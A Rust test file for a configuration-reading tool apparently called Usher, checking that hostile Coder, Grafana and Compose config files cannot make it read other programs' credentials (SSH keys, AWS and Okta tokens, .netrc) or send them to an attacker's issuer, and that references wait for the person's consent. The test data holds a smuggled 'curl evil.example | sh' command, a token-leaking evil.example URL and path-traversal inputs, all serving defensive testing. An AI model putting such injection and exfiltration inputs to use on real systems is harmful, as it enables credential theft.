//! Files that lead out of themselves: what belongs to others is never taken, the rest after the person's word.

use std::collections::BTreeMap;
use std::path::Path;

use usher::apps::catalogue;
use usher::base::Secret;
use usher::engine::Field;
use usher::engine::reference::{Consent, Issuer};
use usher::engine::search::Search;

use super::found::{SECRET, agreed, env, gather, look, look_with, value};

/// A file from anywhere names the issuer to which its values are sent, so it must not reach what belongs to others: not by any word.
#[test]
fn a_hostile_file_cannot_send_off_what_belongs_to_other_programs() {
    let theirs = [
        ("AWS_SECRET_ACCESS_KEY", SECRET),
        ("OKTA_API_TOKEN", SECRET),
        ("TF_VAR_db_password", SECRET),
        ("OTHER_APP_OAUTH_CLIENT_SECRET", SECRET),
        ("CODER_OIDC_SCOPES", SECRET),
        ("/run/secrets/okta", SECRET),
        ("/etc/machine-id", SECRET),
        ("/home/ana/.vault-token", SECRET),
        ("/home/ana/.ssh/id_ed25519", SECRET),
        ("/srv/coder/../../home/ana/.netrc", SECRET),
        ("/srv/coder/several-lines", "-----BEGIN KEY-----\nabcdefghijklmnopqrstuvwxyz\n"),
    ];
    let unnamed = "The guide does not name this variable for this value";
    let cases = [
        ("CODER_OIDC_CLIENT_SECRET=${AWS_SECRET_ACCESS_KEY}", unnamed),
        ("CODER_OIDC_CLIENT_SECRET=${OKTA_API_TOKEN}", unnamed),
        ("CODER_OIDC_CLIENT_SECRET=${TF_VAR_db_password}", unnamed),
        ("CODER_OIDC_CLIENT_SECRET=${OTHER_APP_OAUTH_CLIENT_SECRET:?}", unnamed),
        ("A=${OKTA_API_TOKEN}\nCODER_OIDC_CLIENT_SECRET=${A}", unnamed),
        // Named, but for another value.
        ("CODER_OIDC_CLIENT_SECRET=${CODER_OIDC_SCOPES}", unnamed),
        ("CODER_OIDC_CLIENT_SECRET_FILE=/run/secrets/okta", "does not lie beside"),
        ("CODER_OIDC_CLIENT_SECRET_FILE=/etc/machine-id", "does not lie beside"),
        ("CODER_OIDC_CLIENT_SECRET_FILE=/home/ana/.vault-token", "in a hidden place"),
        ("CODER_OIDC_CLIENT_SECRET_FILE=/home/ana/.ssh/id_ed25519", "in a hidden place"),
        ("CODER_OIDC_CLIENT_SECRET_FILE=../../home/ana/.netrc", "does not lie beside"),
        ("CODER_OIDC_CLIENT_SECRET_FILE=several-lines", "cannot be read"),
        ("CODER_OIDC_CLIENT_SECRET=\"op://a/b'; curl evil.example | sh; '\"", "which Usher cannot follow"),
    ];
    let of_person = Consent { issuer: Issuer::Person, ..Consent::default() };
    for (line, said) in cases {
        // Neither by the flag, nor where the person named the issuer.
        for consent in [agreed(), of_person.clone()] {
            let look = look_with(consent, "coder", "/srv/coder/coder.env", &env(line), &theirs);
            let [open] = look.adopted.open.as_slice() else { panic!("{line}: {look:?}") };
            assert!(open.message().in_english().contains(said), "{line}: {}", open.message().in_english());
            assert!(
                !open.message().in_english().contains("op read"),
                "{line}: {}",
                open.message().in_english()
            );
            assert_eq!(value(&look, &Field::Secret), None, "{line}");
        }
    }
}

/// The issuer and the client ID are sent as well, so what belongs to others must not be told by them.
#[test]
fn no_value_of_a_hostile_file_carries_what_belongs_to_others() {
    let theirs = [("OKTA_API_TOKEN", SECRET), ("/etc/machine-id", SECRET)];
    let ini = |key: &str, lead: &str| {
        let line = |name: &str, value: &str| format!("{name} = {}\n", if name == key { lead } else { value });
        format!(
            "[server]\n{}[auth.okta]\nenabled = true\n{}{}{}{}",
            line("root_url", "https://grafana.example.com"),
            line("client_id", "0oa8x2k4mQ1vJ7dT5e6"),
            line("client_secret", SECRET),
            line("auth_url", "https://example.okta.com/oauth2/v1/authorize"),
            line("scopes", "openid")
        )
    };
    let fields = [
        ("client_id", Field::ClientId),
        ("client_secret", Field::Secret),
        ("auth_url", Field::Issuer),
        ("root_url", Field::Answer("base_url".to_owned())),
        ("scopes", Field::Scopes),
    ];
    let leads =
        ["$__env{OKTA_API_TOKEN}", "$__file{/etc/machine-id}", "https://evil.example/${OKTA_API_TOKEN}"];
    for (key, field) in &fields {
        for lead in leads {
            let look = look("grafana", "/etc/grafana/grafana.ini", &ini(key, lead), &theirs);
            assert_eq!(value(&look, field), None, "{key} = {lead}");
            assert!(look.adopted.open.iter().any(|open| open.field == *field), "{key} = {lead}: {look:?}");
        }
    }
}

/// Where the file names both, nothing is even looked at before the person agrees.
#[test]
fn what_could_be_followed_waits_for_the_persons_word_and_is_not_looked_at_before() {
    let compose = |secret: &str, more: &str| {
        format!(
            "services:\n  coder:\n    image: coder\n{more}    environment:\n      CODER_ACCESS_URL: https://coder.example.com\n      \
             CODER_OIDC_ISSUER_URL: https://example.okta.com\n      CODER_OIDC_CLIENT_ID: 0oa8x2k4mQ1vJ7dT5e6\n{secret}"
        )
    };
    let cases = [
        (
            "/etc/coder.env",
            env("CODER_OIDC_CLIENT_SECRET=${CODER_OIDC_CLIENT_SECRET}"),
            "the variable CODER_OIDC_CLIENT_SECRET",
        ),
        // Where the variable may say something else, what counts otherwise does not count.
        (
            "/etc/coder.env",
            env("CODER_OIDC_CLIENT_SECRET=${CODER_OIDC_CLIENT_SECRET:-abc}"),
            "the variable CODER_OIDC_CLIENT_SECRET",
        ),
        (
            "/etc/coder/coder.env",
            env("CODER_OIDC_CLIENT_SECRET_FILE=okta.txt"),
            "the file /etc/coder/okta.txt",
        ),
        (
            "/srv/compose.yaml",
            compose("      CODER_OIDC_CLIENT_SECRET: ${OKTA_SECRET}\n", ""),
            "OKTA_SECRET in the file /srv/.env",
        ),
        (
            "/srv/compose.yaml",
            compose("", "    env_file: coder.env\n"),
            "CODER_OIDC_CLIENT_SECRET in the file /srv/coder.env",
        ),
        (
            "/srv/compose.yaml",
            compose(
                "      CODER_OIDC_CLIENT_SECRET_FILE: /run/secrets/okta\nsecrets:\n  okta:\n    file: ./okta.txt\n",
                "",
            ),
            "the file /srv/./okta.txt",
        ),
    ];
    let own = format!("CODER_OIDC_CLIENT_SECRET={SECRET}\nOKTA_SECRET={SECRET}\n");
    let has = [
        ("CODER_OIDC_CLIENT_SECRET", SECRET),
        ("/etc/coder/okta.txt", SECRET),
        ("/srv/.env", &own),
        ("/srv/coder.env", &own),
        ("/srv/./okta.txt", SECRET),
    ];
    for (file, text, place) in &cases {
        let before = look_with(Consent::default(), "coder", file, text, &has);
        assert_eq!(value(&before, &Field::Secret), None, "{text}");
        let asked: Vec<_> = before.adopted.asks().collect();
        let [open] = asked.as_slice() else { panic!("{text}: {before:?}") };
        let said = open.message().in_english();
        for part in [*place, "https://example.okta.com", "line "] {
            assert!(said.contains(part), "{part}: {said}");
        }
        let guide = catalogue::open("coder").expect("a guide");
        let mut search = Search::new(Path::new(file), Secret::new(text.as_str()));
        let look = search.look(&guide).expect("something was found");
        assert_eq!(search.wants(&look.adopted), [], "{text}");
        // After a yes to what was asked it is followed.
        search.agree(&asked.into_iter().cloned().collect::<Vec<_>>());
        let has: BTreeMap<&str, &str> = has.iter().copied().collect();
        let after = loop {
            let look = search.look(&guide).expect("something was found");
            let wants = search.wants(&look.adopted);
            if wants.is_empty() {
                break look;
            }
            search.gather(gather(&wants, &has));
        };
        assert_eq!(value(&after, &Field::Secret).as_deref(), Some(SECRET), "{text}");
        // To an issuer that the person named it goes without a question.
        let of_person = Consent { issuer: Issuer::Person, ..Consent::default() };
        let theirs: Vec<(&str, &str)> = has.into_iter().collect();
        let named = look_with(of_person, "coder", file, text, &theirs);
        assert_eq!(value(&named, &Field::Secret).as_deref(), Some(SECRET), "{text}");
    }
}

/// A file that Compose takes all variables from is the configuration itself: its secret goes where it says itself.
#[test]
fn one_env_file_with_all_values_is_read_as_the_configuration() {
    let compose = |files: &str| {
        format!(
            "services:\n  coder:\n    image: coder\n    env_file:{files}\n    environment:\n      CODER_ACCESS_URL: https://coder.example.com\n"
        )
    };
    let all = env(&format!("CODER_OIDC_CLIENT_SECRET={SECRET}"));
    let leading = env("CODER_OIDC_CLIENT_SECRET=${CODER_OIDC_CLIENT_SECRET}");
    let has = [
        ("/srv/coder.env", all.as_str()),
        ("/srv/b.env", &all),
        ("/srv/c.env", &leading),
        ("CODER_OIDC_CLIENT_SECRET", SECRET),
    ];
    let secret = |files: &str| {
        value(
            &look_with(Consent::default(), "coder", "/srv/compose.yaml", &compose(files), &has),
            &Field::Secret,
        )
    };
    assert_eq!(secret(" coder.env").as_deref(), Some(SECRET));
    // Of two one could name the issuer and the other hold the secret; and a file elsewhere may be anybody's.
    assert_eq!(secret(" [coder.env, b.env]"), None);
    assert_eq!(secret(" ../srv/coder.env"), None);
    assert_eq!(secret(" c.env"), None);
}

#[test]
fn what_counts_otherwise_stands_in_the_file_and_needs_no_word() {
    let text = env(&format!("CODER_OIDC_CLIENT_SECRET=${{OTHER_SECRET:-{SECRET}}}"));
    let look = look("coder", "/etc/coder.env", &text, &[("OTHER_SECRET", "of-another-program")]);
    assert_eq!(value(&look, &Field::Secret).as_deref(), Some(SECRET));
}

/// What is shown is where it would go: an address in the file that Usher does not read as the issuer is not shown for it.
#[test]
fn the_issuer_that_is_shown_is_the_one_that_would_get_the_value() {
    let text = "[server]\nroot_url = https://grafana.example.com\n[auth.okta]\nenabled = true\n\
                auth_url = https://trusted.example.com/somewhere/else\ntoken_url = https://evil.example/oauth2/v1/token\n\
                client_id = 0oa8x2k4mQ1vJ7dT5e6\nclient_secret = $__env{GF_AUTH_OKTA_CLIENT_SECRET}\nscopes = openid\n";
    let found = look_with(Consent::default(), "grafana", "/etc/grafana/grafana.ini", text, &[]);
    assert_eq!(value(&found, &Field::Issuer).as_deref(), Some("https://evil.example"));
    let asked: Vec<String> = found.adopted.asks().map(|open| open.message().in_english()).collect();
    let [said] = asked.as_slice() else { panic!("{found:?}") };
    assert!(said.contains("sent to https://evil.example.") && !said.contains("trusted"), "{said}");
}
